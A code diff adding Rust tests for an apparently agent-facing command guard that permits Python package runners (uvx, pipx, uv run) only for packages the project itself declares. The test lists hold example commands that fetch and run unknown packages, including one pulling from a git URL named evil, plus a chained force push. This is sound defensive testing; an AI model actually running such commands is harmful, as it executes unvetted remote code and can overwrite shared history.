@@ -25,11 +25,40 @@ impl ScriptReader for Files {
                 r#"{"name": "app", "devDependencies": {"prettier": "^3", "typescript": "^5", "@biomejs/biome": "1"}}"#
             }
             "/home/dev/repo/node_modules/.bin/tsc" => "#!/usr/bin/env node\n",
+            "/home/dev/repo/pyproject.toml" => PYPROJECT,
+            "/home/dev/repo/.venv/bin/coverage" => "#!/home/dev/repo/.venv/bin/python\n",
+            "/home/dev/svc/requirements.txt" => "# runtime\nflask>=3\n-r requirements-dev.txt\n",
+            "/home/dev/svc/requirements-dev.txt" => {
+                "-e .\npytest-cov==5.0 ; python_version >= '3.9'\nFlake8\n"
+            }
+            "/home/dev/bad/pyproject.toml" => "[project\nname = ",
             _ => return None,
         };
         Some(text.to_owned())
     }
 }
+
+const PYPROJECT: &str = r#"
+[project]
+name = "app"
+dependencies = ["requests>=2", "Click[extra]~=8.1"]
+
+[project.optional-dependencies]
+lint = ["ruff==0.5.0"]
+
+[dependency-groups]
+dev = ["pytest>=8", { include-group = "lint" }]
+
+[tool.uv]
+dev-dependencies = ["mypy"]
+
+[tool.poetry.dependencies]
+python = "^3.11"
+httpie = "*"
+
+[tool.poetry.dev-dependencies]
+black = "^24"
+"#;
 
 fn decide(command: &str) -> Decision {
     let mut ctx = corpus_context();
@@ -118,4 +147,69 @@ fn a_package_runner_runs_only_the_projects_own_packages() {
     }
     // The corpus context has no package.json to read: judged as the program it names.
     assert!(crate::support::decide("npx cowsay hi").is_allow());
+}
+
+#[test]
+fn a_python_package_runner_runs_only_the_projects_own_packages() {
+    // Packages the project's pyproject.toml or requirements files name, its own name, and
+    // programs installed in its virtualenv.
+    for cmd in [
+        "uvx ruff check .",
+        "uvx ruff@0.5.0 check .",
+        "uv tool run black --check .",
+        "uvx --from httpie http GET example.org",
+        "uvx --from 'ruff==0.5.0' ruff check",
+        "uvx mypy src",
+        "uvx pytest -q",
+        "uvx click --help",
+        "uvx app",
+        "uvx coverage report",
+        "pipx run black --check .",
+        "pipx run --spec black==24.1 black .",
+        "uv run --with requests python -c 'print(1)'",
+        "uv run --with pytest,ruff pytest -x",
+        "uv run pytest",
+        "cd /home/dev/svc && uvx flake8 src",
+        "cd /home/dev/svc && pipx run pytest-cov --help",
+        "cd /home/dev/svc && uvx flask --version",
+        "cd src && uvx ruff check .",
+    ] {
+        assert!(decide(cmd).is_allow(), "{cmd}: {:?}", decide(cmd));
+    }
+    // Anything else is fetched and run unseen.
+    for cmd in [
+        "uvx cowsay hi",
+        "uvx evil-tool@1.0",
+        "uv tool run evil-tool",
+        "uvx --from evil-pkg ruff check .",
+        "uvx --from git+https://example.org/evil.git ruff",
+        "uvx --with evil-plugin ruff check .",
+        "pipx run evil-tool",
+        "pipx run --spec evil-pkg black .",
+        "uv run --with evil-pkg pytest",
+        "uv run --with=requests,evil-pkg pytest",
+        "uv run -w evil-pkg python -c 'print(1)'",
+        "cd /home/dev/svc && uvx ruff check .",
+        "cd src && uvx cowsay",
+    ] {
+        assert_eq!(
+            decide(cmd).rule,
+            Some(RuleId::ShellEscape),
+            "{cmd}: {:?}",
+            decide(cmd)
+        );
+    }
+    // A package spec the guard cannot know, where it can read the project: denied.
+    assert!(decide("uvx --from \"$PKG\" ruff check .").is_deny());
+    // No project file the guard can read (the corpus context reads none; /tmp has none here),
+    // or one it cannot parse: judged as the program it names.
+    assert!(crate::support::decide("uvx cowsay hi").is_allow());
+    assert!(crate::support::decide("uv run --with evil-pkg pytest").is_allow());
+    assert!(decide("cd /tmp && uvx cowsay hi").is_allow());
+    assert!(decide("cd /home/dev/bad && uvx cowsay hi").is_allow());
+    // What the runner starts is still walked.
+    assert_eq!(
+        decide("uvx ruff check . && git push --force").rule,
+        Some(RuleId::GitPush)
+    );
 }
